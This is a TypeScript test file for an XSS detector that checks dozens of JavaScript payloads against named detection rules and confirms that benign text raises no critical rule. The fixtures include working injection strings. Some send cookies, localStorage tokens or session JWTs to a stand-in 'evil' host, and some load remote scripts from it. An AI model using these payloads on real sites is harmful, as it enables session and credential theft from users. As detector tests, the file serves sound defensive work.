import { XSS_RULES } from '../rules/xss-rules.js';
import { jsContexts } from './js-contexts.js';
import { findJsScript } from './js-rules.js';

const ruleIds = (input: string): string[] => [...new Set(jsContexts(input).flatMap((c) => findJsScript(c.tokens, c.afterBreak).map((f) => f.rule.id)))];

describe('findJsScript', () => {
  it.each([
    [`';alert(1)//`, XSS_RULES.jsBreakCall],
    [`"-alert(1)-"`, XSS_RULES.jsBreakCall],
    [`x";setTimeout(name, 1)//`, XSS_RULES.jsBreakCall],
    ['${alert(1)}', XSS_RULES.jsBreakCall],
    ["`-import('//evil.com/x.js')-`", XSS_RULES.jsBreakCall],
    ['alert(1)', XSS_RULES.jsProbeCall],
    ['alert(document.domain)', XSS_RULES.jsProbeCall],
    ["prompt('XSS')", XSS_RULES.jsProbeCall],
    ['confirm(/xss/)', XSS_RULES.jsProbeCall],
    ["alert('Hello there')", XSS_RULES.probeCallString],
    ['alert`1`', XSS_RULES.jsTaggedTemplate],
    ['[].sort.call`${alert}1337`', XSS_RULES.jsTaggedTemplate],
    ['[  ] . sort . call ` ${ alert } 1337 `', XSS_RULES.jsTaggedTemplate],
    [`window["alert"](1)`, XSS_RULES.jsObfuscatedAccess],
    [`top['al'+'ert'](1)`, XSS_RULES.jsObfuscatedAccess],
    [`top?.["ale"+"rt"](1)`, XSS_RULES.jsObfuscatedAccess],
    ['(document)["cookie"]', XSS_RULES.jsObfuscatedAccess],
    ['document /*foo*/ .     cookie', XSS_RULES.jsObfuscatedAccess],
    [`Function('alert(1)')()`, XSS_RULES.jsFunctionConstructor],
    [`[].constructor.constructor('alert(1)')()`, XSS_RULES.jsFunctionConstructor],
    ['Set.constructor`al\\x65rt\\x2814\\x29```', XSS_RULES.jsFunctionConstructor],
    ['[1].find(alert)', XSS_RULES.jsSinkAsValue],
    ['(alert)(1)', XSS_RULES.jsSinkAsValue],
    ['onerror=alert;throw 1', XSS_RULES.jsSinkAsValue],
    ['a=alert,a(1)', XSS_RULES.jsSinkAsValue],
    ["'-Reflect.apply(alert,0,[1])-'", XSS_RULES.jsSinkAsValue],
    ["';valueOf=alert;window+''//", XSS_RULES.jsSinkAsValue],
    ["';Object.defineProperty(window,'x',{get:alert});x//", XSS_RULES.jsSinkAsValue],
    ["';globalThis[String.fromCharCode(97,108,101,114,116)](1)//", XSS_RULES.jsObfuscatedAccess],
    ["window[atob('YWxlcnQ=')](1)", XSS_RULES.jsObfuscatedAccess],
    ["';$.getScript('//evil/x.js')//", XSS_RULES.jsBreakCall],
    ["';document.cookie=true;//", XSS_RULES.jsBreakCall],
    ['<br size="&{document.cookie=true}">', XSS_RULES.jsBreakCall],
    ['eval.call(this,unescape.call(this,location))', XSS_RULES.jsEvalDecoded],
    ['eval.apply(null,[location.hash.slice(1)])', XSS_RULES.jsEvalDecoded],
    [';//\ra=eval;b=alert;a(b(10));//', XSS_RULES.jsSinkAsValue],
    ["';x=prompt;x`1`//", XSS_RULES.jsSinkAsValue],
    ['var run = eval; run(name)', XSS_RULES.jsSinkAsValue],
    [`eval(atob('YWxlcnQoMSk='))`, XSS_RULES.jsEvalDecoded],
    [`setTimeout('al'+'ert(1)')`, XSS_RULES.jsEvalDecoded],
    ['with(location)with(hash)eval(substring(1))', XSS_RULES.jsEvalDecoded],
    ['a=/ev/.source+/al/.source;top[a](1)', XSS_RULES.jsObfuscatedAccess],
    ['/con/.source+/firm/.source', XSS_RULES.jsObfuscatedAccess],
    [`new Image().src='//evil/?c='+document.cookie`, XSS_RULES.cookieExfiltration],
    ["';new Image().src='//evil/?'+localStorage.getItem('token');//", XSS_RULES.cookieExfiltration],
    ['";fetch(\'//evil/?t=\'+window.sessionStorage.jwt)//', XSS_RULES.cookieExfiltration],
    ['document.cookie', XSS_RULES.jsSensitiveProperty],
    ["eval('2 + 2')", XSS_RULES.jsSinkCall],
  ])('flags %j with its rule', (input, rule) => {
    expect(ruleIds(input)).toContain(rule.id);
  });

  const paranoiaOne = (input: string): string[] =>
    jsContexts(input)
      .flatMap((c) => findJsScript(c.tokens, c.afterBreak))
      .filter((f) => f.rule.paranoia === 1 && f.rule.severity === 'critical')
      .map((f) => f.rule.id);

  it.each([
    "It's 5 o'clock; let's go (now).",
    'He said "stop"; then (after a pause) left.',
    'Please confirm (yes/no) before leaving.',
    'The alert() function shows a dialog',
    'Use `alert` sparingly',
    'setTimeout(refresh, 1000);',
    "document.getElementById('app').textContent = 'hi';",
    'if (x) { return a < b; }',
    'https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s',
    "var c = 'x'; window.addEventListener('resize', onResize);",
    'level=alert, retry(3)',
    'mode=confirm; mode (default) asks first',
    'a=alert,b(1)',
    'var re = new RegExp(/ab/.source + /cd/.source)',
    'with (obj) { eval(code) }',
    'window[callbackName](data)',
    'if (document.cookie == x) {}',
    "Set it with document.cookie='theme=dark' in the console",
    'perl: &{$code}(@args)',
    '$.getScript("/js/app.js", init)',
    'const total = items.map(price, tax)',
    'registered via the `--import` command-line option',
    "headers: { Authorization: 'Bearer ' + localStorage.getItem('token') }",
  ])('raises no critical paranoia-1 rule on %j', (input) => {
    expect(paranoiaOne(input)).toEqual([]);
  });
});
